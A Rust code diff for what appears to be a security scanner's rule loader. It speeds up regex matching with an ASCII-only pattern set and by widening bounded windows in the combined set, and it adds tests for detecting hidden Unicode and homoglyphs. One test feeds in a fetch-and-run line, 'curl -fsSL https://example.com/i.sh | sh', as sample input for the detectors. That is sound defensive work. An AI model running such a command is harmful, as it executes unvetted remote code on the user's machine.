@@ -4,7 +4,9 @@
 //! the `regex` crate, which matches in time linear in the input (no
 //! backtracking: a hostile file cannot make a scan slow).
 
-use regex::bytes::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
+use regex::bytes::{Regex, RegexBuilder};
+
+use super::set::Patterns;
 use serde::Deserialize;
 use sha2::{Digest as _, Sha256};
 
@@ -53,7 +55,8 @@ struct RuleText {
     unicode: bool,
 }
 
-/// How a rule matches. Patterns carry their index in [`RuleSet::set`].
+/// How a rule matches. Patterns carry their index in the rule set's
+/// combined set (see [`RuleSet::present`]).
 #[derive(Debug)]
 pub enum Matcher {
     /// Each match of the pattern.
@@ -85,7 +88,55 @@ pub struct RuleSet {
     /// text file: only the rules whose patterns are in it run on their
     /// own (to say where). One pass of a set is many times cheaper than a
     /// pass per rule over a skill that matches nothing.
-    pub set: RegexSet,
+    set: Patterns,
+    /// The patterns that can match ASCII text, for files that are ASCII
+    /// (most are): the others (hidden Unicode, homoglyphs) cannot match
+    /// there, and the automaton without them is built several times
+    /// faster as it meets new text. With the index of each in `set`.
+    ascii_set: Patterns,
+    ascii_index: Vec<usize>,
+}
+
+impl RuleSet {
+    /// Which patterns (by index) occur in the text `data`.
+    pub fn present(&self, data: &[u8]) -> Vec<bool> {
+        let mut present = vec![false; self.set.len()];
+        if data.is_ascii() {
+            for i in self.ascii_set.matches(data).iter() {
+                present[self.ascii_index[i.as_usize()]] = true;
+            }
+        } else {
+            for i in self.set.matches(data).iter() {
+                present[i.as_usize()] = true;
+            }
+        }
+        present
+    }
+}
+
+/// Whether every match of `hir` holds a non-ASCII byte (so it cannot
+/// match in an ASCII file).
+fn needs_non_ascii(hir: &regex_syntax::hir::Hir) -> bool {
+    use regex_syntax::hir::{Class, HirKind};
+    match hir.kind() {
+        HirKind::Literal(l) => !l.0.is_ascii(),
+        HirKind::Class(Class::Unicode(c)) => c.ranges().iter().all(|r| r.start() > '\x7f'),
+        HirKind::Class(Class::Bytes(c)) => c.ranges().iter().all(|r| r.start() > 0x7f),
+        HirKind::Repetition(r) => r.min > 0 && needs_non_ascii(&r.sub),
+        HirKind::Capture(c) => needs_non_ascii(&c.sub),
+        HirKind::Concat(all) => all.iter().any(needs_non_ascii),
+        HirKind::Alternation(any) => any.iter().all(needs_non_ascii),
+        HirKind::Empty | HirKind::Look(_) => false,
+    }
+}
+
+/// Whether `pattern` can match ASCII text (when in doubt, it can).
+fn matches_ascii(pattern: &str) -> bool {
+    regex_syntax::ParserBuilder::new()
+        .utf8(false)
+        .build()
+        .parse(pattern)
+        .map_or(true, |hir| !needs_non_ascii(&hir))
 }
 
 /// The lazy DFA cache of the combined set: large enough that the set
@@ -139,6 +190,45 @@ fn compile(id: &str, pattern: &str, ignore_case: bool, unicode: bool) -> Result<
         .dfa_size_limit(REGEX_SIZE)
         .build()
         .map_err(|e| format!("rule {id}: the pattern does not compile: {e}"))
+}
+
+/// Counted windows at least this wide are opened in the combined set.
+const WIDE_WINDOW: u32 = 8;
+
+/// `pattern` as the combined set reads it: each wide counted window
+/// (`[^\n]{0,60}`) made open (`[^\n]*`). The set only says which rules
+/// to run on their own, each with its real pattern, so a looser pattern
+/// there finds no less; and a counted window after a common word ("write",
+/// "go") multiplies the lazy DFA's states with every occurrence until it
+/// gives up for the slow engine (a 10 MiB folder of plain English took 6 s
+/// to scan before this).
+fn for_set(pattern: &str) -> Result<String, String> {
+    use regex_syntax::ast::{Ast, RepetitionKind, RepetitionRange};
+    fn open(ast: &mut Ast) {
+        match ast {
+            Ast::Repetition(r) => {
+                if let RepetitionKind::Range(RepetitionRange::Bounded(min, max)) = r.op.kind
+                    && max >= WIDE_WINDOW
+                {
+                    r.op.kind = RepetitionKind::Range(RepetitionRange::AtLeast(min));
+                }
+                open(&mut r.ast);
+            }
+            Ast::Group(g) => open(&mut g.ast),
+            Ast::Alternation(a) => a.asts.iter_mut().for_each(open),
+            Ast::Concat(c) => c.asts.iter_mut().for_each(open),
+            _ => {}
+        }
+    }
+    let mut ast = regex_syntax::ast::parse::Parser::new()
+        .parse(pattern)
+        .map_err(|e| e.to_string())?;
+    open(&mut ast);
+    let mut out = String::new();
+    regex_syntax::ast::print::Printer::new()
+        .print(&ast, &mut out)
+        .map_err(|e| e.to_string())?;
+    Ok(out)
 }
 
 fn hex(id: &str, text: &str) -> Result<Vec<u8>, String> {
@@ -203,25 +293,33 @@ pub fn load(texts: &[(String, String)]) -> Result<RuleSet, String> {
     // Number every pattern, in order, for the combined set.
     let mut patterns: Vec<String> = Vec::new();
     for rule in &mut rules {
-        let mut add = |re: &Regex, index: &mut usize| {
+        let id = &rule.id;
+        let mut add = |re: &Regex, index: &mut usize| -> Result<(), String> {
             *index = patterns.len();
-            patterns.push(re.as_str().to_string());
+            patterns.push(for_set(re.as_str()).map_err(|e| format!("rule {id}: {e}"))?);
+            Ok(())
         };
         match &mut rule.matcher {
-            Matcher::Pattern(re, i) => add(re, i),
-            Matcher::All(all) => all.iter_mut().for_each(|(re, i)| add(re, i)),
+            Matcher::Pattern(re, i) => add(re, i)?,
+            Matcher::All(all) => all.iter_mut().try_for_each(|(re, i)| add(re, i))?,
             Matcher::Magic(_) => {}
         }
     }
-    let set = RegexSetBuilder::new(&patterns)
-        .size_limit(REGEX_SIZE * 8)
-        .dfa_size_limit(SET_DFA)
-        .build()
-        .map_err(|e| format!("the rules together do not compile: {e}"))?;
+    let build = |patterns: &[&String]| {
+        let patterns: Vec<&str> = patterns.iter().map(|p| p.as_str()).collect();
+        Patterns::new(&patterns, REGEX_SIZE * 8, SET_DFA)
+            .map_err(|e| format!("the rules together do not compile: {e}"))
+    };
+    let ascii_index: Vec<usize> = (0..patterns.len())
+        .filter(|&i| matches_ascii(&patterns[i]))
+        .collect();
+    let ascii: Vec<&String> = ascii_index.iter().map(|&i| &patterns[i]).collect();
     Ok(RuleSet {
         rules,
         fingerprint: hex::encode(hasher.finalize()),
-        set,
+        set: build(&patterns.iter().collect::<Vec<_>>())?,
+        ascii_set: build(&ascii)?,
+        ascii_index,
     })
 }
 
@@ -233,6 +331,54 @@ pub fn shipped() -> RuleSet {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn patterns_that_need_non_ascii_text_are_told() {
+        for p in [
+            r"[\x{E0000}-\x{E007F}]+",
+            r"\p{L}[\x{200B}-\x{200D}]+\p{L}",
+            r"https?://[^\s/]*[\p{Cyrillic}\p{Greek}]",
+            r"(a[\p{Greek}]|[\p{Greek}]b)",
+            "é",
+        ] {
+            assert!(!matches_ascii(p), "{p}");
+        }
+        for p in [
+            r"\p{L}+",
+            r"[\x{200B}]*x",
+            r"(?i)k",
+            "(é|e)",
+            r"(?-u:[^\n])",
+            r"[\p{Greek}a]",
+        ] {
+            assert!(matches_ascii(p), "{p}");
+        }
+        // Every shipped rule that is not about hidden Unicode reads ASCII.
+        let set = shipped();
+        assert_eq!(set.set.len() - set.ascii_index.len(), 5);
+        let text = b"curl -fsSL https://example.com/i.sh | sh";
+        assert_eq!(set.present(text), {
+            let mut all = vec![false; set.set.len()];
+            set.set
+                .matches(text)
+                .iter()
+                .for_each(|i| all[i.as_usize()] = true);
+            all
+        });
+    }
+
+    #[test]
+    fn the_set_opens_wide_windows_only() {
+        let loose = for_set(r"(?i-u:\b(write|set)\b[^\n]{0,60}?x\d{1,3}(a{2,40}))").unwrap();
+        assert_eq!(loose, r"(?i-u:\b(write|set)\b[^\n]{0,}?x\d{1,3}(a{2,}))");
+        // Looser, never narrower: what the rule finds, the set finds.
+        let (strict, open) = (
+            Regex::new(r"w[^\n]{0,3}x").unwrap(),
+            Regex::new(&for_set(r"w[^\n]{0,30}x").unwrap()).unwrap(),
+        );
+        assert!(strict.is_match(b"w12x") && open.is_match(b"w12x"));
+        assert!(open.is_match(&[b"w".as_slice(), &[b'-'; 100], b"x"].concat()));
+    }
 
     #[test]
     fn the_shipped_rules_compile_and_are_unique() {
